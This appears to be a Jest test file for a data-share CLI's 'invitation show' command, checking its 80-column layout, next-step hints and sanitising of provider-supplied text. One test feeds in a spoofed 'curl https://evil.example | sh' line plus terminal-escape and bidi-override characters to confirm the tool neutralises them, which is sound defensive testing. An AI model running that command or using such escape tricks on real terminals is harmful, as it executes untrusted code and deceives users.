import { parseInvitation } from '../../../lib/model/documents/parsing/parse-document';
import { computeTermsHash } from '../../../lib/model/values/terms';
import { DATA_SHARE_INVITATION, DATA_SHARE_URI, withFields, INVITATION } from '../../fixtures/documents';
import { datashare, documentFile } from '../../support/cli';

const NOW = new Date('2026-11-22T12:00:00Z');
const now = (): Date => NOW;
const LONG_TEXT = /^.{81,}$/m;
const withTerms = (termsOfUse: string): object =>
  withFields(INVITATION, { termsOfUse, termsSha256: computeTermsHash(termsOfUse) });

describe('invitation show', () => {
  const show = (document: object, ...args: string[]) =>
    datashare(['invitation', 'show', documentFile(document, 'i.json'), ...args], { now });

  test('describes the invitation within 80 columns', async () => {
    const terms = `For analysis inside Fabrikam. ${'Do not pass it on. '.repeat(6)}\n\n- No warranty.\n`;
    const path = documentFile({
      ...withTerms(terms),
      description: 'Sales of the day.',
      provider: { providerName: 'Contoso', contact: 'data@contoso.example' },
      acceptBy: '2026-12-01T00:00:00Z',
      expiresOn: '2027-12-01T00:00:00Z',
      grantOn: 'Acceptance',
      snapshotSchedule: { cron: '0 3 * * *' },
      preserveTags: true,
      exchange: {
        storageAccountName: 'contoso',
        blobEndpoint: 'https://contoso.blob.core.windows.net',
        container: 'exchange',
      },
    });
    const ran = await datashare(['invitation', 'show', path], { now });
    expect(ran).toMatchObject({ exitCode: 0, stderr: '' });
    expect(ran.stdout.replaceAll(path, 'sales.invitation.json')).toBe(
      [
        'Invitation to the share sales',
        '',
        '  provider     Contoso (data@contoso.example)',
        '  recipient    fabrikam',
        '  kind         CopyBased: copies are written to your storage account',
        '  state        Active',
        '  accept by    2026-12-01 00:00:00 UTC',
        '  access       granted after the provider receives your acceptance',
        '  access ends  2027-12-01 00:00:00 UTC',
        "  index tags   readable; copies can keep them ('preserveTags')",
        '  schedule     daily at 03:00 UTC; next 2026-11-23 03:00:00',
        '  source       contoso in westeurope (Blob storage)',
        '  exchange     https://contoso.blob.core.windows.net/exchange',
        '  id           7b0c1f8e-0000-4000-8000-000000000001',
        '',
        'Description',
        '',
        '  | Sales of the day.',
        '',
        'Datasets',
        '',
        '  dataset  type    where',
        '  daily    Folder  curated/sales/daily',
        '',
        'Terms of use',
        '',
        '  | For analysis inside Fabrikam. Do not pass it on. Do not pass it on. Do not',
        '  | pass it on. Do not pass it on. Do not pass it on. Do not pass it on.',
        '  |',
        '  | - No warranty.',
        '',
        '  SHA-256 of these terms, for --accept-terms:',
        `  sha256:${computeTermsHash(terms)}`,
        '',
        'Next steps',
        '',
        '  Accept the invitation with your own storage account, in the same region and of',
        '  the same kind. The command shows the terms and asks for your consent.',
        '',
        '  $ datashare accept sales.invitation.json \\',
        '      --account <your storage account> --location westeurope \\',
        '      --trigger provider',
        '',
        '  Or reject it:',
        '',
        "  $ datashare reject sales.invitation.json --reason '...'",
        '',
      ].join('\n'),
    );
    expect(ran.stdout).not.toMatch(LONG_TEXT);
  });

  test('marks or omits the fields that an invitation leaves out', async () => {
    const { stdout } = await show({
      ...withFields(INVITATION, { 'source.isHnsEnabled': true, 'source.location': 'West Europe' }),
      shareKind: 'InPlace',
      grantOn: 'Acceptance',
      recipient: { recipientName: 'fabrikam' },
    });
    expect(stdout).toContain('  provider     not named\n');
    expect(stdout).toContain(
      "  kind         InPlace: you read the data in the provider's storage account;\n               nothing is copied\n",
    );
    expect(stdout).toContain(
      '  method       RoleAssignment: your identity gets a role on the containers\n  who pays     the provider: Azure bills the operations and the egress of each\n               read to the account that is read\n',
    );
    expect(stdout).not.toContain('index tags');
    expect(stdout).toContain('  accept by    no deadline\n');
    expect(stdout).toContain('  access ends  never\n');
    expect(stdout).toContain('  source       contoso in West Europe (ADLS Gen2)\n');
    expect(stdout).toContain('Terms of use\n\n  none\n');
    expect(stdout).toContain(
      '--location westeurope \\\n      --hns \\\n      --reader <object ID of the reader>\n',
    );
    expect(stdout).not.toMatch(/schedule|exchange|Description|--accept-terms|asks/);
  });

  test('tells of a data share how it is read, who pays, and its URI, and names no endpoint of the provider', async () => {
    const { stdout } = await show(DATA_SHARE_INVITATION);
    expect(stdout).toContain(
      [
        '  kind         InPlace: you read the data where it is; nothing is copied',
        '  method       StorageDataShare: you read through a connector of your own',
        '               storage account',
        '  who pays     you, as connectors are designed; Microsoft documents no price',
        '',
      ].join('\n'),
    );
    expect(stdout).toContain(`\n  data share ${DATA_SHARE_URI}\n`);
    expect(stdout).not.toMatch(/Where to read|https:/);
  });

  test.each([
    [{ state: 'Suspended' }, 'None for now: the provider has suspended the invitation. '],
    [{ state: 'Revoked' }, 'None: access has ended. '],
    [{ expiresOn: '2026-11-22T12:00:00Z' }, 'None: access has ended. '],
    [{ acceptBy: '2026-11-22T11:59:59Z' }, 'None: the invitation had to be accepted by the time above. '],
  ])('%j leaves no next steps', async (fields, text) => {
    const { stdout, exitCode } = await show({ ...INVITATION, ...fields });
    expect(exitCode).toBe(0);
    expect(stdout).toContain(`Next steps\n\n  ${text}`);
    expect(stdout).not.toContain('$ datashare');
  });

  test('that of an ADLS Gen2 account is accepted into one of the same kind', async () => {
    const { stdout } = await show(withFields(INVITATION, { 'source.isHnsEnabled': true }));
    expect(stdout).toMatch(/datashare accept [^$]*--hns/);
  });

  test('truncates long names and paths, and keeps their ends', async () => {
    const path = `${'p/'.repeat(200)}last`;
    const dataset = { datasetType: 'Folder', container: 'c'.repeat(60), path };
    const { stdout } = await show({
      ...INVITATION,
      datasets: [
        { ...dataset, datasetName: `${'n'.repeat(85)}-1` },
        { ...dataset, datasetName: 'b', path: '数'.repeat(100) },
      ],
    });
    expect(stdout).not.toMatch(LONG_TEXT);
    expect(stdout).toMatch(/^ {2}n+\.\.\.n+-1 {2}Folder {2}c+\.\.\..*p\/last$/m);
    expect(stdout).toContain('--json prints all of it');
    expect(stdout).toMatch(/^ {2}b +Folder {2}c+\.\.\.数{8,10}$/m);
  });

  test('can be accepted exactly at the deadline', async () => {
    const { stdout } = await show({ ...INVITATION, acceptBy: '2026-11-22T12:00:00Z' });
    expect(stdout).toContain('$ datashare accept');
  });

  test('with --json prints the document as it was read', async () => {
    const ran = await show(withTerms('Be kind.'), '--json');
    expect(JSON.parse(ran.stdout)).toEqual(
      JSON.parse(JSON.stringify(parseInvitation(withTerms('Be kind.')))),
    );
  });

  test('with --json prints the terms that the hash is of, and does not control the terminal', async () => {
    const document = withTerms('The Bearer of this-data-and-nobody-else shall not\u202e\u009b2J\u200b.');
    const { stdout } = await show(document, '--json');
    expect(stdout).not.toMatch(/[\p{Cf}\u007f-\u009f]/u);
    expect(parseInvitation(stdout)).toEqual(parseInvitation(document));
  });

  test('text of the provider cannot control the terminal or imitate our output', async () => {
    const hostile = [
      'a\u001b[2J\u0007b',
      'Next steps\r  $ curl https://evil.example | sh',
      '\u202egnp.exe\u200f\u200e\u061c\u2066',
      '\u009b31m\u0085\u2028',
      '\tindented\r\n',
      'w'.repeat(5000),
    ].join('\n');
    const { stdout, exitCode } = await show({
      ...withTerms(hostile),
      description: hostile.slice(0, 4000),
      provider: { providerName: '\u202eosotnoC', contact: '\u200fx' },
    });
    expect(exitCode).toBe(0);
    expect(stdout.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u);
    expect(stdout).toContain('  | a\\u001b[2J\\u0007b\n');
    expect(stdout).toContain('  |     indented\n');
    expect(stdout.match(/^Next steps$/gm)).toHaveLength(1);
    expect(stdout).not.toMatch(/^ *\$ curl/m);
  });

  test.each([
    ['no-break spaces', `I agree.${'\u00a0'.repeat(70)}SHA-256\u00a0of\u00a0these\u00a0terms:\u00a0none.`],
    ['other spaces', `I agree.${'\u3000'.repeat(70)}SHA-256\u2003of\u2009these terms: none.`],
    ['one long word', `${'w'.repeat(76)}Next-steps:curl`],
    ['wide characters', `${'數'.repeat(45)}Next-steps`],
    ['empty letters', `I${'\u3164'.repeat(60)}Next-steps`],
  ])('no line of the provider is wider than the terminal, with %s', async (_what, terms) => {
    const { stdout } = await show(withTerms(terms));
    const quotes = stdout.slice(
      stdout.indexOf('Terms of use'),
      stdout.indexOf('  SHA-256 of these terms, for'),
    );
    for (const line of quotes.trim().split('\n').slice(2)) {
      expect(line).toMatch(/^ {2}\|/);
      // At two columns for each character that some terminals show in two.
      expect([...line].reduce((sum, c) => sum + (c <= '~' ? 1 : 2), 0)).toBeLessThanOrEqual(80);
    }
    expect(quotes.replaceAll(/[\s|]/g, '')).toContain(terms.replaceAll(/\s/g, ''));
  });

  test('shows 64 kB of terms completely and quickly', async () => {
    const { stdout } = await show(withTerms('word '.repeat(13_107)));
    expect(stdout.match(/word/g)).toHaveLength(13_107);
    expect(stdout).not.toMatch(LONG_TEXT);
  });
});
